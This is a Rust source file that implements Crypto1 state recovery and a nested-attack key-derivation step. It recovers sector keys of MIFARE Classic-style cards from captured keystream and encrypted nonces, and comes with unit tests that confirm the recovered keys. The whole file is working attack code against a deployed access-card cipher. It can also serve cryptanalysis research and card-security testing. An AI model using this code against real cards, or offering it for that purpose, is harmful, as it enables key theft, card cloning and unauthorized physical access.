//! Crypto1 state recovery from 32 observed keystream bits.
//!
//! The cipher's odd/even register split is also its weakness: each half is
//! constrained independently by half of the keystream through the 20-bit
//! filter window. The search keeps one candidate table per half, feeds in
//! one keystream bit at a time (shift left, keep the LSB variants the
//! filter allows), and intersects the halves through an 8-bit parity
//! "contribution" signature kept in each entry's top byte. Intersection
//! happens inside 256 signature buckets, never across whole tables, which
//! is what keeps the search far below the 2^48 brute-force bound.
//!
//! A recovered state is only consistent with the 32 observed bits; since
//! that under-determines 48 bits of register, results can include false
//! positives. Callers confirm candidates against a live handshake.

use std::sync::atomic::{AtomicBool, Ordering};

use crate::auth;
use crate::cipher::{bebit, filter, parity, prng_successor, Crypto1State, LF_POLY_EVEN, LF_POLY_ODD};

/// Roll the candidate's bucketing signature: shift in two parity checks,
/// dropping the two oldest bits, and leave the low 24 candidate bits alone.
#[inline]
fn update_contribution(item: &mut u32, mask1: u32, mask2: u32) {
    let mut p = *item >> 25;
    p = p << 1 | parity(*item & mask1);
    p = p << 1 | parity(*item & mask2);
    *item = p << 24 | (*item & 0xFFFFFF);
}

/// Advance every candidate one keystream bit. Shift left, then keep the
/// LSB variants whose filter output matches `bit`: a forced LSB keeps one
/// entry, an unconstrained one keeps both (the twin displaces its right
/// neighbor to the table's end), a contradiction drops the entry by
/// swapping in the last element. Every mutation is O(1).
fn extend_table_simple(table: &mut Vec<u32>, bit: u32) {
    let mut idx = 0;
    while idx < table.len() {
        let v = table[idx] << 1;
        let f0 = filter(v);
        let f1 = filter(v | 1);
        if f0 != f1 {
            table[idx] = v | (f0 ^ bit);
            idx += 1;
        } else if f0 == bit {
            table[idx] = v;
            if idx + 1 < table.len() {
                let displaced = table[idx + 1];
                table.push(displaced);
                table[idx + 1] = v | 1;
            } else {
                table.push(v | 1);
            }
            idx += 2;
        } else {
            table.swap_remove(idx);
        }
    }
}

/// [`extend_table_simple`] plus the recursive phase's bookkeeping: each
/// survivor's contribution signature is rolled with the `mask1`/`mask2`
/// parity checks and two bits of the transformed cipher input are folded
/// into the signature byte.
fn extend_table(table: &mut Vec<u32>, bit: u32, mask1: u32, mask2: u32, input: u32) {
    let input = input << 24;
    let mut idx = 0;
    while idx < table.len() {
        let v = table[idx] << 1;
        let f0 = filter(v);
        let f1 = filter(v | 1);
        if f0 != f1 {
            let mut item = v | (f0 ^ bit);
            update_contribution(&mut item, mask1, mask2);
            table[idx] = item ^ input;
            idx += 1;
        } else if f0 == bit {
            let mut keep = v;
            update_contribution(&mut keep, mask1, mask2);
            keep ^= input;
            let mut twin = v | 1;
            update_contribution(&mut twin, mask1, mask2);
            twin ^= input;
            table[idx] = keep;
            if idx + 1 < table.len() {
                let displaced = table[idx + 1];
                table.push(displaced);
                table[idx + 1] = twin;
            } else {
                table.push(twin);
            }
            idx += 2;
        } else {
            table.swap_remove(idx);
        }
    }
}

/// Recursive intersection of the two candidate tables.
///
/// Consumes the remaining keystream budget up to four bits per level, then
/// buckets both tables by signature byte and recurses only within matching
/// buckets. At `rem == -1` the per-bucket survivors are folded pairwise
/// into full states.
#[allow(clippy::too_many_arguments)]
fn recover(
    odd: &mut Vec<u32>,
    mut oks: u32,
    even: &mut Vec<u32>,
    mut eks: u32,
    mut rem: i32,
    mut input: u32,
    states: &mut Vec<Crypto1State>,
    cancel: &AtomicBool,
) {
    if cancel.load(Ordering::Relaxed) {
        return;
    }
    if odd.is_empty() || even.is_empty() {
        return;
    }

    if rem == -1 {
        for &e in even.iter() {
            let e = e << 1 ^ parity(e & LF_POLY_EVEN) ^ u32::from(input & 4 != 0);
            for &o in odd.iter() {
                states.push(Crypto1State {
                    even: o,
                    odd: e ^ parity(o & LF_POLY_ODD),
                });
            }
        }
        return;
    }

    for _ in 0..4 {
        if cancel.load(Ordering::Relaxed) {
            return;
        }
        if rem == 0 {
            rem = -1;
            break;
        }
        rem -= 1;
        oks >>= 1;
        eks >>= 1;
        input >>= 2;
        extend_table(odd, oks & 1, LF_POLY_EVEN << 1 | 1, LF_POLY_ODD << 1, 0);
        if odd.is_empty() {
            return;
        }
        extend_table(even, eks & 1, LF_POLY_ODD, LF_POLY_EVEN << 1 | 1, input & 3);
        if even.is_empty() {
            return;
        }
    }

    let mut odd_buckets: [Vec<u32>; 256] = std::array::from_fn(|_| Vec::new());
    let mut even_buckets: [Vec<u32>; 256] = std::array::from_fn(|_| Vec::new());
    for &o in odd.iter() {
        odd_buckets[(o >> 24) as usize].push(o);
    }
    for &e in even.iter() {
        even_buckets[(e >> 24) as usize].push(e);
    }

    for i in 0..256 {
        if odd_buckets[i].is_empty() || even_buckets[i].is_empty() {
            continue;
        }
        recover(
            &mut odd_buckets[i],
            oks,
            &mut even_buckets[i],
            eks,
            rem,
            input,
            states,
            cancel,
        );
    }
}

/// Recover every 48-bit state consistent with 32 keystream bits `ks2`
/// produced while the 32-bit `input` word was fed into the cipher.
///
/// Returned states sit *after* the 32 observed steps; roll them back to
/// taste. The list may be empty ("not found") and typically holds tens of
/// thousands of entries, most of them false positives to be weeded out by
/// a live check.
pub fn lfsr_recovery32(ks2: u32, input: u32) -> Vec<Crypto1State> {
    lfsr_recovery32_cancellable(ks2, input, &AtomicBool::new(false))
}

/// [`lfsr_recovery32`] with a cooperative cancel flag, polled between
/// extension rounds and at each recursion entry. A cancelled search
/// returns whatever partial results it had assembled.
pub fn lfsr_recovery32_cancellable(
    ks2: u32,
    input: u32,
    cancel: &AtomicBool,
) -> Vec<Crypto1State> {
    let mut oks = 0u32;
    let mut eks = 0u32;
    for i in (1..=31u32).rev().step_by(2) {
        oks = oks << 1 | bebit(ks2, i);
    }
    for i in (0..=30u32).rev().step_by(2) {
        eks = eks << 1 | bebit(ks2, i);
    }

    let mut odd: Vec<u32> = Vec::with_capacity(1 << 21);
    let mut even: Vec<u32> = Vec::with_capacity(1 << 21);
    for v in (0..=(1u32 << 20)).rev() {
        if filter(v) == oks & 1 {
            odd.push(v);
        }
        if filter(v) == eks & 1 {
            even.push(v);
        }
    }

    for _ in 0..4 {
        if cancel.load(Ordering::Relaxed) {
            return Vec::new();
        }
        oks >>= 1;
        extend_table_simple(&mut odd, oks & 1);
        eks >>= 1;
        extend_table_simple(&mut even, eks & 1);
    }

    let input = (input >> 16 & 0xff) | (input << 16) | (input & 0xff00);
    let mut states = Vec::new();
    recover(
        &mut odd,
        oks,
        &mut even,
        eks,
        11,
        input << 1,
        &mut states,
        cancel,
    );
    states
}

/// Offline nested-attack step: derive candidate keys for a locked sector
/// from one captured encrypted nonce, given an already known key and
/// plaintext nonce from another sector of the same card.
///
/// The known cipher is advanced three words (two discarded); the third
/// word doubles as the attack keystream and decrypts the candidate
/// plaintext nonce. Results must be confirmed against a live handshake.
pub fn recover_key_from_nonces(
    uid: u32,
    known_nt: u32,
    encrypted_nt: u32,
    known_key: u64,
) -> Vec<u64> {
    let mut state = auth::init_cipher(known_key, uid, known_nt);
    state.lfsr_word(0, false);
    state.lfsr_word(0, false);
    let ks = state.lfsr_word(0, false);

    let candidate_nt = encrypted_nt ^ ks;
    let candidates = lfsr_recovery32(ks, candidate_nt);

    let mut keys = Vec::with_capacity(candidates.len());
    for mut candidate in candidates {
        candidate.lfsr_rollback_word(uid ^ candidate_nt, false);
        keys.push(candidate.get_key());
    }
    keys
}

/// Number of PRNG steps from `n1` to `n2`, probing at most 65536 positions.
/// Returns `u32::MAX` when `n2` is not reachable within the bound.
pub fn nonce_distance(n1: u32, n2: u32) -> u32 {
    let mut state = n1;
    for i in 0..65536 {
        if state == n2 {
            return i;
        }
        state = prng_successor(state, 1);
    }
    u32::MAX
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::cipher::prng_successor;

    const KEY: u64 = 0xA0A1A2A3A4A5;
    const UID: u32 = 0xCDB46EFB;
    const NT: u32 = 0x0094A2D5;

    fn masked_eq(a: &Crypto1State, b: &Crypto1State) -> bool {
        a.odd & 0xFFFFFF == b.odd & 0xFFFFFF && a.even & 0xFFFFFF == b.even & 0xFFFFFF
    }

    #[test]
    fn test_recovery_is_complete_for_known_state() {
        // Nested-style observation: the keystream word produced while the
        // cipher absorbs uid ^ nT, straight after key load.
        let mut state = Crypto1State::load_key(KEY);
        let ks0 = state.lfsr_word(UID ^ NT, false);
        let truth = state;

        let candidates = lfsr_recovery32(ks0, UID ^ NT);
        assert!(
            candidates.iter().any(|c| masked_eq(c, &truth)),
            "true state missing from {} candidates",
            candidates.len()
        );

        // Rolling each candidate back one word must surface the real key.
        let keys: Vec<u64> = candidates
            .into_iter()
            .map(|mut c| {
                c.lfsr_rollback_word(UID ^ NT, false);
                c.get_key()
            })
            .collect();
        assert!(keys.contains(&KEY));
    }

    #[test]
    fn test_recovery_reader_response_observation() {
        // The keystream word that encrypts {aR} in a captured handshake,
        // unwound through the reader nonce and the init word.
        let nr = 0x01020304u32;
        let mut state = auth::init_cipher(KEY, UID, NT);
        state.lfsr_word(nr, false);
        let ks2 = state.lfsr_word(0, false);

        let keys: Vec<u64> = lfsr_recovery32(ks2, 0)
            .into_iter()
            .map(|mut c| {
                c.lfsr_rollback_word(0, false);
                c.lfsr_rollback_word(nr, false);
                c.lfsr_rollback_word(UID ^ NT, false);
                c.get_key()
            })
            .collect();
        assert!(keys.contains(&KEY));
    }

    #[test]
    fn test_recovery_candidate_count_stays_bounded() {
        let mut state = Crypto1State::load_key(0xB587C9A1DD00);
        let ks0 = state.lfsr_word(0x1234ABCD, false);

        let candidates = lfsr_recovery32(ks0, 0x1234ABCD);
        assert!(!candidates.is_empty());
        assert!(
            candidates.len() < 100_000,
            "pruning broke down: {} candidates",
            candidates.len()
        );
    }

    #[test]
    fn test_cancelled_recovery_stops_early() {
        let cancel = AtomicBool::new(true);
        let candidates = lfsr_recovery32_cancellable(0x5A17E03B, 0, &cancel);
        assert!(candidates.is_empty());
    }

    #[test]
    fn test_recover_key_from_nonces_surfaces_consistent_states() {
        // Arrange the capture so the candidate nonce decrypts to zero and
        // the uid is zero: recovery and rollback then share the input the
        // keystream was really produced with, so the state the known
        // cipher held before its third word must be among the answers.
        let known_nt = 0x01200145u32;
        let mut s = auth::init_cipher(KEY, 0, known_nt);
        s.lfsr_word(0, false);
        s.lfsr_word(0, false);
        let before_third = s;
        let ks3 = s.lfsr_word(0, false);

        let keys = recover_key_from_nonces(0, known_nt, ks3, KEY);
        assert!(keys.contains(&before_third.get_key()));

        // Every candidate must reproduce the observed keystream word.
        for &key in &keys {
            let mut check = Crypto1State::load_key(key);
            assert_eq!(check.lfsr_word(0, false), ks3);
        }
    }

    #[test]
    fn test_nonce_distance_zero_for_same_nonce() {
        for n in [0u32, 0x01020304, 0xDEADBEEF] {
            assert_eq!(nonce_distance(n, n), 0);
        }
    }

    #[test]
    fn test_nonce_distance_known_offsets() {
        let n1 = 0x01020304u32;
        assert_eq!(nonce_distance(n1, prng_successor(n1, 100)), 100);
        assert_eq!(nonce_distance(n1, prng_successor(n1, 50000)), 50000);
    }

    #[test]
    fn test_nonce_distance_unreachable_sentinel() {
        // Zero is a PRNG fixed point, so nothing else is ever reachable.
        assert_eq!(nonce_distance(0, 1), u32::MAX);
    }
}
